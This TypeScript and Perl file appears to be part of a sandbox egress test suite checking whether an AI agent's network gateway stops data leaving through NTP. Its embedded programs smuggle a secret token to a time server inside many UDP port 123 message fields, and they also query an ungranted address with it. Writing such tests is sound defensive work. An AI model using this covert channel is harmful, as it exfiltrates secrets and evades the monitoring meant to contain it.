import type { AgentFacts, Attack } from '../attack.ts';
import { text } from './prelude.ts';
import { attack, DENIED_IP } from './shape.ts';
import { WAYS } from './ways.ts';

/** Datagrams to UDP port 123 (RFC 5905, 7.3): `clock(FIRST, AT => BYTES, ...)` is a message with a random timestamp, changed at these places. The
 *  drill's time server answers with the token whatever is not a bare request, as one that works for the agent would take note of it. */
export const CLOCK: string = String.raw`
sub random8 { return pack 'n4', map { int rand 65536 } 1 .. 4 }
sub clock { my ($first, %at) = @_;
  my $message = pack('C4', $first, 0, 0, 0x20) . "\0" x 36 . random8();
  for (keys %at) { substr($message, $_, length $at{$_}) = $at{$_} }
  return $message }
# Nobody's silence says anything while it is not known that an ordinary question is answered.
sub told { my ($ip) = @_; my $message = clock(0x23); my $got = udp($ip, 123, $message);
  return length($got) == 48 && substr($got, 24, 8) eq substr($message, 40, 8) && ord(substr $got, 1, 1) > 0 && $got !~ any_token() }
`;

export function onlyWithTime({ tier }: AgentFacts): string | undefined {
  return tier === 'user' ? 'no server can be asked for the time there: all UDP but DNS is rejected' : undefined;
}

/** Time may be asked for where it is granted; nothing else goes that way. */
export const TIME: readonly Attack[] = [
  attack({
    id: 'a07-udp-time-payload',
    line: 7,
    tries:
      'carries a secret to a time server that it may ask: in every field of a request, in extension fields and digests, in control and private messages, as a peer, as a server',
    control: 'the gateway reads what is sent to port 123 and asks granted servers itself, in its own words',
    applies: onlyWithTime,
    program: text(
      WAYS +
        CLOCK +
        String.raw`
my $ip = named($A{clock_host}); defined $ip or refused($ended);
my $m = $A{clock_mark};
my @ways = (
  ['root delay and dispersion', clock(0x23, 4 => $m)], ['reference', clock(0x23, 12 => $m)], ['origin', clock(0x23, 24 => $m)], ['receive', clock(0x23, 32 => $m)],
  ['transmit', clock(0x23, 40 => $m)], ['poll', clock(0x23, 2 => substr $m, 0, 1)], ['leap', clock(0xe3)],
  ['extension field', clock(0x23) . pack('n n', 0x0204, 28) . $m x 3], ['digest', clock(0x23) . pack('N', 1) . $m x 2], ['a long one', clock(0x23) . $m x 100], ['a short one', $m],
  ['control message', pack('C C n n n n n', 0x26, 2, 1, 0, 0, 0, 8) . $m], ['private message', clock(0x27, 8 => $m)], ['peer', clock(0x21, 16 => $m)], ['server', clock(0x24, 16 => $m)],
  ['broadcast', clock(0x25, 16 => $m)], ['another version', clock(0x0b, 16 => $m)]);
for (@ways) {
  socket(my $fh, AF_INET, SOCK_DGRAM, 0) or failed("socket: $!");
  connect($fh, place($ip, 123)) or failed("connect: $!");
  defined(send $fh, $_->[1], 0) or $_->[3] = "write: $!";
  $_->[2] = $fh }
my $until = time + 2;
for (@ways) { my ($name, $bytes, $fh, $why) = @$_;
  my $got = $why ? '' : hear($fh, qr/./s, $until > time ? $until - time : 0.05);
  if ($got =~ any_token()) { through_by($name) } else { push @no, "$name: " . ($why || (length $got ? 'answered without it' : 'no answer')) } }
@yes || told($ip) or failed("an ordinary question: $ended");
no_way();`,
    ),
    positive: 'open-net',
    watch: ['clock'],
    evidence: [{ event: ['egress.denied'], mentions: 'clock_host' }],
    seconds: 20,
  }),
  attack({
    id: 'a07-udp-time-ungranted',
    line: 7,
    tries: 'asks an address that is not granted for the time, with a secret as its own',
    control: 'the gateway answers for port 123 of every address, and asks no server that policy does not name',
    applies: onlyWithTime,
    program: text(
      `${CLOCK}${String.raw`
my $got = udp($A{deny_ip}, 123, clock(0x23, 40 => $A{clock_mark}));
refused('denied in the protocol') if length($got) == 48 && substr($got, 12, 4) eq 'DENY';
judge('time', $got);`}`,
    ),
    positive: 'open-net',
    watch: ['far'],
    evidence: DENIED_IP,
  }),
];
